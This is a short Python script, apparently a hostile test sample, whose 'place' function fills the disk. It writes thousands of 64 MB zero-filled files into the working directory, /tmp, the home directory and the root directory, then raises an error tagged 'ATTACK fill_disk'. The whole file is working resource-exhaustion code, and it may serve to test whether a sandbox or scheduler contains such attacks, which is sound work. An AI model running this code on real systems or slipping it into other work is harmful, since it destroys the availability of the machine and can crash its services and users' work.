# Writes until the disk is full, in every writable place it can find (once: filling is slow).
import os

WRITTEN = []


def place(workload):
    if not WRITTEN:
        total = 0
        for folder in (os.getcwd(), "/tmp", os.path.expanduser("~"), "/"):
            try:
                for i in range(100_000):
                    with open(os.path.join(folder, f"fill-{i}"), "wb") as stream:
                        stream.write(b"\0" * (64 * 1024 * 1024))
                    total += 64
            except OSError:
                continue
        WRITTEN.append(total)
    raise RuntimeError(f"ATTACK fill_disk WROTE-MB {WRITTEN[0]} END")
